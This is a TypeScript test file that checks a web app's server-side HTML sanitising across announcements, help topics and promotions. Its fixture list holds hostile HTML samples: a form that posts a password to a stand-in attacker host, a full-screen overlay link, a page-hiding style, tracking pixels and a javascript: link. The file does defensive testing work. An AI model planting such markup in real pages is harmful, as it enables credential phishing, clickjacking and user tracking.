import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createTestApp, loginAs, type TestApp } from '../support/test-app';

/*
 * Issue 14 item 6: HTML written to the database by any path (not the seed) is cleaned again when
 * served: no form, no page-wide style, no full-screen link overlay, no tracking image; the merchant's
 * own CDN images stay.
 */

const HOSTILE = [
  '<p>Win big</p>',
  '<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>',
  '<style>body{display:none} .x{position:fixed}</style>',
  '<a href="https://evil.example/deposit" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">overlay</a>',
  '<div style="position:fixed;inset:0;font-size:900px;color:#f00">cover</div>',
  '<img src="https://tracker.example/pixel.gif?u=1" width="1" height="1">',
  '<img src="//tracker.example/p.gif">',
  '<img src="https://cdn.demo-brand.com/ok.png" width="99999">',
  '<img src="/api/content/art/banner-1.svg" alt="local">',
  '<a href="javascript:alert(1)" onclick="x()">js</a>',
].join('');

describe('HTML is cleaned when served', () => {
  let t: TestApp;
  let token = '';
  beforeAll(async () => {
    t = await createTestApp({
      merchants: {
        demo: (doc) => ({
          ...doc,
          content: { ...(doc.content as object), imageHosts: ['cdn.demo-brand.com'] },
        }),
      },
    });
    token = await loginAs(t.app, 'demo_member', 'Demo1234');
    await t.db.query(
      "INSERT INTO announcements (merchant_code, type, group_name, title_vi, title_en, content_vi, content_en, execution) VALUES ('demo', 'PU', '', 'x', 'Hostile popup', $1, $1, 'A')",
      [HOSTILE],
    );
    await t.db.query(
      "INSERT INTO help_topics (merchant_code, lang, tag, title, content, sort) VALUES ('demo', 'en', 'hostile', 'Hostile', $1, 99)",
      [HOSTILE],
    );
    await t.db.query(
      'UPDATE promotions SET content_en = $1, content_vi = $1 WHERE id = (SELECT min(id) FROM promotions)',
      [HOSTILE],
    );
  });
  afterAll(async () => t?.close());

  const expectClean = (html: string) => {
    expect(html).toContain('Win big');
    for (const bad of [
      '<form',
      '<input',
      '<button',
      '<style',
      'display:none',
      'position',
      'evil.example/steal',
      'tracker.example',
      'javascript:',
      'onclick',
      '900px',
      '99999',
    ])
      expect(html, bad).not.toContain(bad);
    expect(html).toContain('https://cdn.demo-brand.com/ok.png');
    expect(html).toContain('/api/content/art/banner-1.svg');
    // The overlay link survives only as a plain link, without its style.
    expect(html).toMatch(/<a href="https:\/\/evil\.example\/deposit" rel="noopener noreferrer">overlay<\/a>/);
  };

  it('announcements (popup)', async () => {
    const list = (
      await t.app.inject({
        method: 'GET',
        url: '/api/content/announcements?types=PU&language=en',
        headers: bearer(token),
      })
    ).json<{ list: { title: string; content: string }[] }>().list;
    const popup = list.find((a) => a.title === 'Hostile popup')!;
    expectClean(popup.content);
  });

  it('help topics', async () => {
    const list = (
      await t.app.inject({
        method: 'GET',
        url: '/api/content/help?language=en',
        headers: { 'x-merchant-code': 'demo' },
      })
    ).json<{ list: { title: string; content: string }[] }>().list;
    expectClean(list.find((h) => h.title === 'Hostile')!.content);
  });

  it('promotions, in the list and alone', async () => {
    const list = (
      await t.app.inject({ method: 'GET', url: '/api/promotions?language=en', headers: bearer(token) })
    ).json<{ list: { id: number; content: string }[] }>().list;
    const first = list.find((p) => p.content.includes('Win big'))!;
    expectClean(first.content);
    const one = (
      await t.app.inject({
        method: 'GET',
        url: `/api/promotions/${first.id}?language=en`,
        headers: bearer(token),
      })
    ).json<{ content: string }>();
    expectClean(one.content);
  });

  it('another merchant does not get the demo CDN', async () => {
    await t.db.query("UPDATE help_topics SET merchant_code = NULL WHERE tag = 'hostile'");
    const list = (
      await t.app.inject({
        method: 'GET',
        url: '/api/content/help?language=en',
        headers: { 'x-merchant-code': 'lotus' },
      })
    ).json<{ list: { title: string; content: string }[] }>().list;
    expect(list.find((h) => h.title === 'Hostile')!.content).not.toContain('cdn.demo-brand.com');
  });
});
